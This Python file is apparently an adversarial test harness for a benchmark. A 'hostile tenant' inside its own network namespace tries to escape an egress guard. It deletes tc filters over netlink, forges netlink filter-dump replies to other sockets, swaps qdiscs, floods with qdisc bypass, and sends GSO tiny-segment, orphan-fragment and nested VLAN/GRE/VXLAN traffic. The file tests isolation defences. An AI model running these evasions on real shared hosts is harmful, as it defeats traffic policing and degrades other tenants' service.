"""A tenant with all rights in its own network namespace tries to get more than it is granted. Standard library only.

`benches/hostile_tenant.py` runs this in a user namespace that owns the tenant's network namespace:
`hostile.py ATTACK SECONDS SOURCE-MAC TARGET-MAC SOURCE TARGET`.
"""

from __future__ import annotations

import contextlib
import itertools
import multiprocessing
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

INTERFACE, TUNNEL = "eth0", "vxlan0"
IPV4, VLAN, STACKED = 0x0800, 0x8100, 0x88A8
UDP, TCP, GRE, IPIP = 17, 6, 47, 4
SOL_PACKET, PACKET_VNET_HDR, PACKET_QDISC_BYPASS = 263, 15, 20
# struct virtio_net_hdr: a TCP packet over IPv4 whose check sum is to be made.
NEEDS_CHECKSUM, GSO_TCPV4 = 1, 1
DELETE_FILTER, GET_FILTER, NEW_FILTER, DONE, DUMP, REQUEST = 45, 46, 44, 3, 0x300, 0x1
EGRESS = 0xFFFFFFF3
LARGEST = 60_000


class Tenant:
    """Where it sends: all frames go to its own sink."""

    def __init__(self, source_mac: str, target_mac: str, source: str, target: str) -> None:
        self.macs = bytes.fromhex((target_mac + source_mac).replace(":", ""))
        self.source, self.target = source, target
        self.addresses = socket.inet_aton(source) + socket.inet_aton(target)

    def frame(self, packet: bytes, *tags: tuple[int, int]) -> bytes:
        tagged = b"".join(struct.pack("!HH", kind, number) for kind, number in tags)
        return self.macs + tagged + struct.pack("!H", IPV4) + packet

    def ipv4(self, payload: bytes, protocol: int = UDP, place: int = 0, number: int = 0) -> bytes:
        """With its check sum, for a receiver might look. place: of a fragment, its flags and offset."""
        begin = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), number & 0xFFFF, place, 64, protocol, 0)
        header = begin + self.addresses
        total = sum(struct.unpack("!10H", header))
        folded = (total & 0xFFFF) + (total >> 16)
        check = ~(folded + (folded >> 16)) & 0xFFFF
        return header[:10] + struct.pack("!H", check) + header[12:] + payload

    def datagram(self, payload: bytes, port: int = 9) -> bytes:
        return self.ipv4(struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload)


def packet_socket(*options: int, interface: str = INTERFACE) -> socket.socket:
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    for option in options:
        opened.setsockopt(SOL_PACKET, option, 1)
    opened.bind((interface, 0))
    return opened


def send_all(out: socket.socket, frames: Iterator[bytes], until: float) -> None:
    """As fast as they are taken."""
    while time.monotonic() < until:
        for frame in itertools.islice(frames, 32):
            # What is dropped, or finds no room, is an error for its sender.
            with contextlib.suppress(OSError):
                out.send(frame)


def netlink(kind: int, flags: int, body: bytes, number: int = 1) -> bytes:
    return struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body


def tcmsg(info: int = 0) -> bytes:
    return struct.pack("=BxxxiIII", 0, socket.if_nametoindex(INTERFACE), 0, EGRESS, info)


def delete_filters(until: float) -> None:
    """All on the way out, as often as the kernel lets it."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        request = netlink(DELETE_FILTER, REQUEST, tcmsg())
        out.connect((0, 0))
        while time.monotonic() < until:
            out.send(request)


def forge(until: float) -> None:
    """Tells every netlink socket here that the hooks are there still, with many numbers, and removes them."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        out.bind((0, 0))
        out.sendto(netlink(GET_FILTER, REQUEST | DUMP, tcmsg()), (0, 0))
        hooks = hooks_in(out.recv(1 << 16))
        own = out.getsockname()[0]
        for first in itertools.cycle(range(0, 4000, 100)):
            if time.monotonic() > until:
                return
            out.sendto(netlink(DELETE_FILTER, REQUEST, tcmsg()), (0, 0))
            numbers = range(first, first + 100)
            forged = b"".join(netlink(NEW_FILTER, 2, hook, n) for n in numbers for hook in hooks)
            forged += b"".join(netlink(DONE, 2, bytes(4), n) for n in numbers)
            for port in ports() - {own}:
                # One that is not connected to the kernel takes it.
                with contextlib.suppress(OSError):
                    out.sendto(forged, (port, 0))


def hooks_in(answer: bytes) -> list[bytes]:
    bodies = []
    while len(answer) >= 16:
        length, kind = struct.unpack_from("=IH", answer)
        if kind == NEW_FILTER:
            bodies.append(answer[16:length])
        answer = answer[(length + 3) & ~3 :]
    return bodies


def ports() -> set[int]:
    """Of all sockets of rtnetlink here."""
    lines = [line.split() for line in Path("/proc/self/net/netlink").read_text().splitlines()[1:]]
    return {int(fields[2]) for fields in lines if fields[1] == "0"} - {0}


def tc(*arguments: str) -> None:
    subprocess.run(["tc", *arguments], stderr=subprocess.DEVNULL, check=False)


def own_qdiscs(until: float) -> None:
    """Its own queue in place of the guard's, and its own filter ahead of the guard's hook, again and again."""
    while time.monotonic() < until:
        tc("qdisc", "replace", "dev", INTERFACE, "root", "pfifo", "limit", "10000")
        tc("filter", "replace", "dev", INTERFACE, "egress", "prio", "1", "handle", "1", "matchall", "action", "ok")
        time.sleep(0.05)
    tc("filter", "del", "dev", INTERFACE, "egress", "prio", "1")
    tc("qdisc", "del", "dev", INTERFACE, "root")


def full_frames(tenant: Tenant) -> Iterator[bytes]:
    return itertools.repeat(tenant.frame(tenant.datagram(bytes(1472))))


def flood(tenant: Tenant, until: float, *options: int) -> None:
    with packet_socket(*options) as out:
        send_all(out, full_frames(tenant), until)


def with_flood(act: Callable[[float], None], tenant: Tenant, until: float) -> None:
    beside = multiprocessing.Process(target=flood, args=(tenant, until))
    beside.start()
    act(until)
    beside.join()


def around_queues(tenant: Tenant, until: float) -> None:
    """By its own queues and filters, and with frames that pass no queue and no hook."""
    beside = multiprocessing.Process(target=flood, args=(tenant, until, PACKET_QDISC_BYPASS))
    beside.start()
    with_flood(own_qdiscs, tenant, until)
    beside.join()


def segments(tenant: Tenant, until: float, bytes_: int, size: int, interface: str = INTERFACE) -> None:
    """TCP packets of so many bytes that are to be cut into segments of this size."""
    tcp = struct.pack("!HHIIBBHHH", 40000, 9, 1, 0, 5 << 4, 0x10, 65535, 0, 0)
    packet = tenant.frame(tenant.ipv4(tcp + bytes(bytes_), TCP))
    header = struct.pack("=BBHHHH", NEEDS_CHECKSUM, GSO_TCPV4, 14 + 20 + 20, size, 14 + 20, 16)
    with packet_socket(PACKET_VNET_HDR, interface=interface) as out:
        send_all(out, itertools.repeat(header + packet), until)


def tiny_segments(tenant: Tenant, until: float) -> None:
    """Of one byte."""
    segments(tenant, until, 4000, 1)


def tunnel_segments(tenant: Tenant, until: float) -> None:
    """Small ones. Each repeats the headers of a tunnel, and those inside."""
    ends = ["local", tenant.source, "remote", tenant.target, "dstport", "4789", "dev", INTERFACE]
    subprocess.run(["ip", "link", "add", TUNNEL, "type", "vxlan", "id", "7", *ends], check=True)
    subprocess.run(["ip", "link", "set", TUNNEL, "up"], check=True)
    segments(tenant, until, 20_000, 100, TUNNEL)
    subprocess.run(["ip", "link", "del", TUNNEL], check=True)


def fragments(tenant: Tenant, until: float) -> None:
    """First fragments that nothing follows, and later ones that nothing came before."""
    head = struct.pack("!HHHH", 40000, 9, 1480, 0)

    def frames() -> Iterator[bytes]:
        for number in itertools.count():
            yield tenant.frame(tenant.ipv4(head + bytes(64), UDP, 0x2000, number))
            yield tenant.frame(tenant.ipv4(bytes(1400), UDP, 9, number + 7))

    with packet_socket() as out:
        send_all(out, frames(), until)


def framing(tenant: Tenant, until: float) -> None:
    """The same data behind VLAN tags, stacked tags and in tunnels."""
    inner = tenant.datagram(bytes(1400))
    kinds = [
        tenant.frame(inner, (VLAN, 5)),
        tenant.frame(inner, (STACKED, 5), (VLAN, 6)),
        tenant.frame(inner, (VLAN, 1), (VLAN, 2), (VLAN, 3)),
        tenant.frame(tenant.ipv4(struct.pack("!HH", 0, IPV4) + inner, GRE)),
        tenant.frame(tenant.ipv4(inner, IPIP)),
        tenant.frame(tenant.datagram(bytes.fromhex("0800000000000500") + tenant.frame(inner), 4789)),
    ]
    with packet_socket() as out:
        send_all(out, itertools.cycle(kinds), until)


ATTACKS: Mapping[str, Callable[[Tenant, float], None]] = {
    "forged answers": lambda tenant, until: with_flood(forge, tenant, until),
    "filter deletion": lambda tenant, until: with_flood(delete_filters, tenant, until),
    "own queues": around_queues,
    "tiny segments": tiny_segments,
    "segments in a tunnel": tunnel_segments,
    "fragments": fragments,
    "framing": framing,
}


def main() -> None:
    attack, seconds, *where = sys.argv[1:]
    multiprocessing.set_start_method("fork")
    ATTACKS[attack](Tenant(*where), time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
